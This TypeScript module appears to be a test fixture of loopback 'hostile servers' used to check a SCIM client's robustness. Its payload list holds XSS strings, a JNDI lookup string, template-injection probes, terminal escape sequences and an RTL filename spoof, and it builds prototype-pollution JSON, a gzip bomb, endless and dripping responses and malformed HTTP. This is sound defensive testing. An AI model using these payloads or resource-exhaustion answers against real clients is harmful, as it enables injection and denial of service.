/** Servers that answer nothing of use, or worse: what a client must survive, and what must earn no pass. */
import { createServer } from 'node:http';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import type { Json } from '../scim/types.js';
import { LIST_RESPONSE, USER_SCHEMA } from '../scim/urns.js';
import type { Listening } from './listen.js';
import type { Req, Res } from './message.js';

export interface HostileServer {
  id: string;
  /** What it does, as one sentence. */
  title: string;
  /** `null`: answers, but with nothing; it must earn no pass. `hostile`: it attacks the client. */
  kind: 'null' | 'hostile';
  /** Answers as values; absent where only a socket shows what it does. */
  answer?(req: Req): Res;
  /** Answers on the socket. */
  serve(request: IncomingMessage, response: ServerResponse, socket: Socket): void;
}

const SCIM = { 'Content-Type': 'application/scim+json' };

/** Made once: a copy for each of thousands of answers would fill the memory of whoever keeps them. */
const DEEP = `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`;
const LONG = `{"id":"${'x'.repeat(16_000_000)}"}`;

/** A server that can be told by its answers alone. */
function answering(id: string, title: string, kind: HostileServer['kind'], answer: (req: Req) => Res): HostileServer {
  return {
    id,
    title,
    kind,
    answer,
    serve: (request, response) => {
      readAll(request, (body) => {
        const result = answer({ method: request.method ?? 'GET', path: request.url ?? '/', body });
        response.writeHead(result.status, result.headers);
        response.end(request.method === 'HEAD' ? '' : result.body);
      });
    },
  };
}

function onSocket(id: string, title: string, serve: HostileServer['serve']): HostileServer {
  return { id, title, kind: 'hostile', serve };
}

function readAll(request: IncomingMessage, done: (body: string) => void): void {
  const chunks: Buffer[] = [];
  request.on('data', (chunk: Buffer) => chunks.push(chunk));
  request.on('end', () => done(Buffer.concat(chunks).toString('utf8')));
}

function json(status: number, body: Json): Res {
  return { status, headers: SCIM, body: JSON.stringify(body) };
}

const created = (method: string | undefined): number => (method === 'POST' ? 201 : 200);

/** Texts that mean harm where they are shown without care. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  "javascript:alert('x')",
  '\u001b[2J\u001b[31mred\u001b[0m\u0007',
  '\u001b]8;;http://example.com\u0007link\u001b]8;;\u0007',
  '::error::broken\n::set-output name=x::y',
  '](javascript:alert(1)) | `code` | <b>',
  '\u202etxt.exe',
  '${jndi:ldap://example.com/a}',
  '{{7*7}} <%= 7*7 %>',
  ']]><!-- -->',
  '\u0000\uD800',
];

const everything = payloads.join(' ');

const poisoned: Json = {
  schemas: [USER_SCHEMA, everything],
  id: everything,
  userName: everything,
  [everything]: everything,
  name: { givenName: everything },
  emails: [{ value: everything, type: everything }],
  meta: { resourceType: everything, location: `http://example.com/${everything}`, version: everything },
};

/** JSON text, for a literal of these keys would set the prototype. */
const PROTOTYPE = `{"__proto__":{"polluted":true,"toString":null},"constructor":{"prototype":{"polluted":true}},
"schemas":["${LIST_RESPONSE}"],"totalResults":1,"id":"x","userName":"x","Resources":[{"__proto__":{"polluted":true},"id":"x",
"hasOwnProperty":1,"toString":1,"valueOf":1,"meta":{"__proto__":[1]}}]}`;

const LOGIN_PAGE = '<!doctype html><html><head><title>Sign in</title></head><body><form>Sign in</form></body></html>';

export const hostileServers: readonly HostileServer[] = [
  answering('not-found', 'Every path is answered 404 without body', 'null', () => ({
    status: 404,
    headers: {},
    body: '',
  })),
  answering('not-found-scim', 'Every path is answered 404 with a SCIM error', 'null', () =>
    json(404, { schemas: ['urn:ietf:params:scim:api:messages:2.0:Error'], status: '404', detail: 'Not found.' }),
  ),
  answering('empty-object', 'Every request is answered 200 and {}', 'null', ({ method }) => json(created(method), {})),
  answering('empty-array', 'Every request is answered 200 and []', 'null', ({ method }) => json(created(method), [])),
  answering('null', 'Every request is answered 200 and null', 'null', ({ method }) => json(created(method), null)),
  answering('number', 'Every request is answered 200 and a number', 'null', () => json(200, 42)),
  answering('empty-body', 'Every request is answered 200 without body', 'null', () => ({
    status: 200,
    headers: SCIM,
    body: '',
  })),
  answering('no-content', 'Every request is answered 204', 'null', () => ({ status: 204, headers: {}, body: '' })),
  answering('html', 'Every request is answered with a sign-in page', 'null', () => ({
    status: 200,
    headers: { 'Content-Type': 'text/html' },
    body: LOGIN_PAGE,
  })),
  answering('redirects', 'Every request is redirected to a sign-in page', 'null', () => ({
    status: 302,
    headers: { Location: '/login' },
    body: '',
  })),
  answering('redirect-loop', 'Every request is redirected to itself', 'hostile', ({ path }) => ({
    status: 307,
    headers: { Location: path },
    body: '',
  })),
  answering('unauthorized', 'Every request is answered 401', 'null', () => ({
    status: 401,
    headers: { ...SCIM, 'WWW-Authenticate': 'Bearer' },
    body: '{}',
  })),
  answering('server-error', 'Every request is answered 500', 'null', () => ({
    status: 500,
    headers: {},
    body: 'oops',
  })),
  answering('throttled', 'Every request is answered 429 with a long Retry-After', 'null', () => ({
    status: 429,
    headers: { 'Retry-After': '86400' },
    body: '',
  })),
  answering('empty-list', 'Every request is answered with an empty list', 'null', ({ method }) =>
    json(created(method), { schemas: [LIST_RESPONSE], totalResults: 0, startIndex: 1, itemsPerPage: 0, Resources: [] }),
  ),
  answering('echo', 'Every request is answered with its own body', 'null', ({ method, body }) => ({
    status: created(method),
    headers: { ...SCIM, Location: '/scim/v2/Users/echo', ETag: 'W/"1"' },
    body: body === undefined || body === '' ? '{}' : body,
  })),
  answering('cut', 'Every answer is JSON without its end', 'null', () => ({
    status: 200,
    headers: SCIM,
    body: '{"schemas":["urn:ietf:params:scim:api:messages:2.0:ListResponse"],"totalResults":',
  })),
  answering(
    'prototype',
    'Every answer has keys that would change the prototype of objects',
    'hostile',
    ({ method }) => ({
      status: created(method),
      headers: SCIM,
      body: PROTOTYPE,
    }),
  ),
  answering('payloads', 'Every text of every answer means harm', 'hostile', ({ method }) =>
    json(created(method), { ...poisoned, totalResults: 1, startIndex: 1, itemsPerPage: 1, Resources: [poisoned] }),
  ),
  answering('payload-errors', 'Every request is answered with an error whose texts mean harm', 'hostile', () =>
    json(400, {
      schemas: ['urn:ietf:params:scim:api:messages:2.0:Error'],
      status: everything,
      scimType: everything,
      detail: everything,
    }),
  ),
  answering('deep', 'Every answer is nested 100,000 levels deep', 'hostile', () => ({
    status: 200,
    headers: SCIM,
    body: DEEP,
  })),
  answering('long-string', 'Every answer holds one text of 16 million characters', 'hostile', () => ({
    status: 200,
    headers: SCIM,
    body: LONG,
  })),
  answering('endless-pages', 'Every page says that there are more', 'hostile', () =>
    json(200, {
      schemas: [LIST_RESPONSE],
      totalResults: 9_007_199_254_740_991,
      startIndex: 1,
      itemsPerPage: 1,
      nextCursor: 'more',
      Resources: [{ schemas: [USER_SCHEMA], id: 'same', userName: 'same' }],
    }),
  ),
  answering('bad-encoding', 'Every answer says that it is compressed, and it is not', 'hostile', () => ({
    status: 200,
    headers: { ...SCIM, 'Content-Encoding': 'gzip' },
    body: '{"schemas":[]}',
  })),
  onSocket('hangs-up', 'Every connection is closed without an answer', (_request, _response, socket) =>
    socket.destroy(),
  ),
  onSocket('resets', 'Every connection is reset', (_request, _response, socket) => socket.resetAndDestroy()),
  onSocket('silent', 'No request is ever answered', () => undefined),
  onSocket('never-ends', 'Every answer begins and never ends', (_request, response) => {
    response.writeHead(200, SCIM);
    response.write('{"schemas":[');
  }),
  onSocket('drips', 'Every answer comes byte by byte', (_request, response, socket) => {
    response.writeHead(200, SCIM);
    const timer = setInterval(() => response.write(' '), 100);
    socket.once('close', () => clearInterval(timer));
  }),
  onSocket('floods', 'Every answer is endless', (_request, response, socket) => {
    response.writeHead(200, SCIM);
    response.write('{"Resources":[');
    const chunk = '{"id":"x"},'.repeat(1000);
    const more = (): void => {
      if (socket.destroyed) return;
      if (response.write(chunk)) setImmediate(more);
      else response.once('drain', more);
    };
    more();
  }),
  onSocket('says-too-much', 'Every answer is shorter than its Content-Length', (_request, response, socket) => {
    response.writeHead(200, { ...SCIM, 'Content-Length': 1000 });
    response.write('{}');
    socket.end();
  }),
  onSocket('says-too-little', 'Every answer is longer than its Content-Length', (_request, _response, socket) => {
    socket.end(
      'HTTP/1.1 200 OK\r\nContent-Type: application/scim+json\r\nContent-Length: 2\r\n\r\n{}{"more":true}HTTP/1.1 500 X\r\n\r\n',
    );
  }),
  onSocket('no-http', 'Every answer is no HTTP', (_request, _response, socket) =>
    socket.end('SSH-2.0-OpenSSH_9.9\r\n'),
  ),
  onSocket('header-injection', 'The headers of every answer hold control characters', (_request, _response, socket) => {
    socket.end(
      'HTTP/1.1 200 OK\r\nContent-Type: application/scim+json\r\nX-A: \u001b[31m\r\nContent-Length: 2\r\n\r\n{}',
    );
  }),
  onSocket('huge-headers', 'Every answer has a megabyte of headers', (_request, _response, socket) => {
    socket.end(`HTTP/1.1 200 OK\r\nX-A: ${'a'.repeat(1_000_000)}\r\nContent-Length: 2\r\n\r\n{}`);
  }),
  onSocket('gzip-bomb', 'Every answer unpacks to 100 MB', (_request, response) => {
    bomb ??= gzipSync(Buffer.alloc(100 * 1024 * 1024, ' '));
    response.writeHead(200, { ...SCIM, 'Content-Encoding': 'gzip', 'Content-Length': bomb.length });
    response.end(bomb);
  }),
];

let bomb: Buffer | undefined;

/** Opens a hostile server on loopback. Throws RangeError for an id that does not exist. */
export async function listenHostile(id: string, port = 0): Promise<Listening> {
  const hostile = hostileServers.find((server) => server.id === id);
  if (!hostile) throw new RangeError(`There is no hostile server "${id}".`);
  const server = createServer((request, response) => {
    response.on('error', () => undefined);
    hostile.serve(request, response, request.socket);
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '127.0.0.1', () => resolve());
  });
  const address = server.address();
  const taken = typeof address === 'object' && address ? address.port : port;
  return {
    url: `http://127.0.0.1:${taken}/scim/v2`,
    port: taken,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
